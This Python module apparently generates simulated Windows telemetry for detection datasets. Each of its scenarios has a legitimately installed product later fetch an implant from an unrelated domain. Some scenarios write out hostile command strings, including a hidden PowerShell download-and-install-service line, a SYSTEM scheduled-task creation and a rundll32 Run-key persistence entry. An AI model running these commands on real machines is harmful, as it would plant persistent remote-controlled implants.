# SPDX-License-Identifier: Apache-2.0
"""Products that do as promised, and later bring something nobody ordered."""

from engine import HOUR, MINUTE
from office import CMD, POWERSHELL, RUNDLL32, SCHTASKS, restart
from setup import beacon, by_agent, download, fetch_file, file_name, inno, make_updater, msi, vendor_calls
from shippers import EventXml, FlatJson
from tales import tale
from things import UNSIGNED, Program, Service, product
from windows import RUN, SYSTEM


def tax_product(s, noun, **more):
    vendor = s.names.vendor()
    made = product(s.world, vendor, noun, **more)
    return vendor, made


def link_installer(s, path):
    s.link("the installer that brought the product", path, path.rsplit("\\", 1)[1])


@tale("A second installer 35 minutes after the product", True, days=3)
def updater_after_35_minutes(s):
    s.zeek = "whole"
    host, _ = s.windows(), s.windows(shipper=FlatJson)
    vendor, made = tax_product(s, "Invoice Desk")
    updater = make_updater(made, habit=vendor_calls(f"update.{vendor.domain}"))
    other, far = s.names.vendor(), s.names.strange_domain()
    port = s.dice.pick((8097, 9003, 8443, 9105))
    stage = Program("C:\\Windows\\Temp\\upsvc_inst.exe", "Setup", "-", "-", "1.0.0.4", "-", signer=UNSIGNED)
    implant = Program("C:\\Windows\\System32\\CertCheck\\ccsvc.exe", "Certified update component", "Update component",
                      other.company, "1.0.3.12", "ccsvc.exe")
    service = Service("ccsvc", "Certified Update Component", implant, quoted=False, habit=beacon(
        f"www.{far}", port, 50 * MINUTE, 75 * MINUTE, {"method": "POST", "uri": "/softServer/"}))

    def act():
        yield s.world.office(0, 1.2)
        yield host
        path = yield from download(host, f"https://download.{vendor.domain}/{file_name(made)}")
        yield 70
        yield from inno(host, made, path)
        link_installer(s, path)
        host.logon_runs[made.stem] = made.main, f'"{made.main.path}"', vendor_calls(f"license.{vendor.domain}")
        yield 35 * MINUTE
        process = host.running[updater.key]
        yield from fetch_file(host, process, f"download.{far}", 8081, "/files/upsvc_inst.exe",
                              "application/x-dosexec")
        host.write(process, stage)
        yield 1
        drop = host.start(stage, process, f'"{stage.path}" /S')
        yield 8
        host.write(drop, implant)
        host.register(service)
        yield 3
        host.start_service(service)
        yield 2
        host.stop(drop)
        s.link("the product's process that fetched the installer", process, updater.program)
        s.link("the second-stage installer", stage, drop)
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination", "odd_port_upload"]
    s.link("the implant", implant)
    s.link("what starts the implant", service.key, service.title)
    s.link("whom it calls", far)


@tale("A payload in the product's own folder, 26 hours late, as a .dat that becomes a program", True, days=4)
def own_folder_after_26_hours(s):
    s.zeek = "daily"
    host = s.windows(shipper=FlatJson)
    s.windows(role="server")
    vendor, made = tax_product(s, "Freight Planner", wide=False)
    updater = make_updater(made, arguments="--service", habit=vendor_calls(f"api.{vendor.domain}"))
    far = s.names.strange_domain()
    data = f"{made.folder}\\cache\\mdl0.dat"
    implant = Program(f"{made.folder}\\{made.stem}Hlp.exe", "Helper", "Helper", "-", "1.0.0.0", "-", signer=UNSIGNED,
                      content="late implant one")

    def run(h, p):
        yield from beacon(f"img.{far}", 443, 25 * MINUTE, 45 * MINUTE)(h, p)

    def act():
        yield s.world.office(0, 2)
        yield host
        path = yield from download(host, f"https://www.{vendor.domain}/get/{file_name(made)}")
        yield 40
        yield from inno(host, made, path)
        link_installer(s, path)
        yield 26 * HOUR
        yield host
        process = host.running[updater.key]
        yield from fetch_file(host, process, f"img.{far}", 80, "/s/mdl0.dat")
        host.write(process, data)
        yield 12
        host.write(process, implant)
        host.delete(process, data)
        yield 2
        host.set_value(process, f"{RUN}\\{made.stem}Hlp", f'"{implant.path}" -tray')
        host.logon_runs["implant"] = implant, f'"{implant.path}" -tray', run
        host.start(implant, process, f'"{implant.path}" -tray', habit=run)
        s.link("the product's process that fetched it", process, updater.program)
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts the implant", f"{RUN}\\{made.stem}Hlp")
    s.link("whom it calls", far)


@tale("cmd from a helper, nine days later", True, days=11, start="2025-03-03")
def cmd_after_nine_days(s):
    host = s.windows(role="laptop", shipper=EventXml)
    s.windows(role="desktop", shipper=FlatJson)
    vendor, made = tax_product(s, "Customs Filing")
    helper = make_updater(made, f"{made.stem}Svc", "", vendor_calls(f"svc.{vendor.domain}", 3 * HOUR, 4 * HOUR),
                          "Helper")
    far = s.names.strange_domain(("update", "patch"))
    temp = "C:\\Windows\\Temp\\~df39c1.exe"
    stage = Program(temp, signer=UNSIGNED, content="nine days stage")
    implant = Program("C:\\ProgramData\\Oracle\\Java\\jucheck64.exe", "Java Update Checker", "-", "-", "2.8.1", "-",
                      signer=UNSIGNED, content="nine days implant")
    task = "\\JavaUpdateCheck64"

    def ticks():
        while True:
            yield 4 * HOUR
            yield host
            child = host.start(implant, host.svchost, f"{implant.path} /q", user=SYSTEM)
            yield 3
            host.connect(child, f"srv.{far}", 443, 2000, 700)
            yield 20
            host.stop(child)

    def act():
        yield s.world.office(0, 3)
        yield host
        package = yield from download(host, f"https://dl.{vendor.domain}/{made.stem}-{made.version}.msi")
        yield 30
        yield from msi(host, made, package, host.explorer, silent=False)
        link_installer(s, package)
        yield s.world.office(9, 4)
        yield host
        process = host.running[helper.key]
        yield from fetch_file(host, process, f"srv.{far}", 443, "")
        host.write(process, stage)
        shell = host.start(CMD, process, f"cmd.exe /c start /b {temp} -i")
        yield 0.4
        drop = host.start(stage, shell, f"{temp} -i")
        host.stop(shell)
        yield 4
        host.write(drop, implant)
        command = f'schtasks /create /tn JavaUpdateCheck64 /tr "{implant.path} /q" /sc hourly /mo 4 /ru SYSTEM /f'
        host.brief(SCHTASKS, drop, command, 0.5)
        yield 0.2
        host.write(host.svchost, f"C:\\Windows\\System32\\Tasks{task}")
        host.registry(host.svchost, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
                      + task, "CreateKey")
        yield 5
        host.stop(drop)
        host.delete(process, stage)
        s.world.go(ticks())
        s.link("the product's process that fetched it", process, helper.program)
        s.link("the second stage", temp, drop)
    s.go(act)
    s.blame(made, made.stem, f"{made.stem}-{made.version}")
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts the implant", "JavaUpdateCheck64")
    s.link("whom it calls", far)


@tale("PowerShell fetches a program after a restart", True, days=3, hours=(7, 16))
def powershell_after_restart(s):
    host = s.windows()
    s.windows(shipper=EventXml)
    vendor, made = tax_product(s, "Payroll Link", unsigned=True)
    helper = make_updater(made, f"{made.stem}Agent", "/svc", vendor_calls(f"sync.{vendor.domain}"), "Agent")
    far = s.names.strange_domain()
    implant = Program("C:\\ProgramData\\WinTelemetry\\wtel.exe", signer=UNSIGNED, content="powershell implant")
    service = Service("WinTelSvc", "Windows Telemetry Helper", implant, "-k", habit=beacon(
        f"cdn.{far}", 8443, 28 * MINUTE, 34 * MINUTE))

    def act():
        yield s.world.office(0, 2)
        yield host
        path = yield from download(host, f"https://{vendor.domain}/files/{file_name(made)}")
        yield 55
        yield from inno(host, made, path)
        link_installer(s, path)
        yield 90 * MINUTE
        yield from restart(host)
        yield 11 * MINUTE
        process = host.running[helper.key]
        url = f"https://cdn.{far}/t/wtel.exe"
        shell = host.start(POWERSHELL, process, "powershell.exe -NoP -W Hidden -C \"iwr "
                           f"{url} -OutFile C:\\ProgramData\\WinTelemetry\\wtel.exe; "
                           "sc.exe create WinTelSvc binPath= 'C:\\ProgramData\\WinTelemetry\\wtel.exe -k' "
                           "start= auto\"")
        yield 3
        host.connect(shell, f"cdn.{far}", 443, 900, 2_900_000)
        yield 5
        host.write(shell, implant)
        host.register(service)
        yield 2
        host.start_service(service)
        host.stop(shell)
        s.link("the product's process behind it", process, helper.program)
        s.link("the shell that fetched it", shell, "-OutFile C:\\ProgramData\\WinTelemetry\\wtel.exe")
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts the implant", "WinTelSvc", "Windows Telemetry Helper")
    s.link("whom it calls", far)


@tale("A library run by rundll32, five hours late", True, days=3)
def rundll32_after_five_hours(s):
    s.zeek = "whole"
    host = s.windows()
    vendor, made = tax_product(s, "Label Studio")
    updater = make_updater(made, habit=vendor_calls(f"update.{vendor.domain}"))
    far = s.names.strange_domain()
    library = Program("C:\\Users\\Public\\Libraries\\msdrmx.dll", signer=UNSIGNED, content="rundll payload")
    command = f"rundll32.exe {library.path},Start"

    def run(h, p):
        yield 0.2
        h.load(p, library)
        yield from beacon(far, 8088, 35 * MINUTE, 60 * MINUTE, {"method": "POST", "uri": "/u"})(h, p)

    def act():
        yield s.world.office(0, 1)
        yield host
        path = yield from download(host, f"https://download.{vendor.domain}/{file_name(made)}")
        yield 45
        yield from inno(host, made, path)
        link_installer(s, path)
        yield 5 * HOUR
        process = host.running[updater.key]
        yield from fetch_file(host, process, far, 8088, "/img/logo.gif", "image/gif")
        host.write(process, library)
        yield 1
        host.start(RUNDLL32, process, command, habit=run)
        host.set_value(process, f"{RUN}\\MsDrmHelper", command)
        host.logon_runs["implant"] = RUNDLL32, command, run
        s.link("the product's process behind it", process, updater.program)
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination", "masqueraded_download"]
    s.link("the library", library)
    s.link("what starts it", f"{RUN}\\MsDrmHelper", "MsDrmHelper")
    s.link("whom it calls", far)


@tale("Windows Installer fetches another vendor's package by order of the product", True, days=3)
def msiexec_foreign_package(s):
    host, second = s.windows(), s.windows(shipper=FlatJson)
    vendor, made = tax_product(s, "Bank Bridge")
    updater = make_updater(made, habit=vendor_calls(f"bridge.{vendor.domain}"))
    stranger = s.names.vendor()
    far = s.names.strange_domain()
    bad = product(s.world, stranger, "Certification Service", folder="C:\\Program Files\\Common Files\\CertSvcs")
    bad.services = [Service("csvcx", "Certification Version Service", bad.main, "-s", habit=beacon(
        f"ws.{far}", 9106, 55 * MINUTE, 80 * MINUTE))]

    def act(host, late):
        yield s.world.office(0, 1)
        yield host
        yield from by_agent(host, made)
        yield late
        yield host
        process = host.running[updater.key]
        yield from fetch_file(host, process, f"dl.{far}", 8090, "/pkg/csvcx.msi")
        package = f"C:\\Windows\\Temp\\{s.dice.hex(8)}.msi"
        host.write(process, package)
        yield 2
        yield from msi(host, bad, package, process, by_user=False)
    for each, late in ((host, 2 * HOUR + 120), (second, 2.6 * HOUR)):
        s.go(act, each, late)
    s.blame(made)
    s.innocent.append("Windows Installer")
    s.affected = [host, second]
    s.behaviours = ["late_payload", "foreign_signer", "persistence", "beacon", "unrelated_destination"]
    s.link("the product's process that ordered it", updater.program)
    s.link("the implant", bad.main)
    s.link("what starts the implant", "csvcx", "Certification Version Service")
    s.link("whom it calls", far)
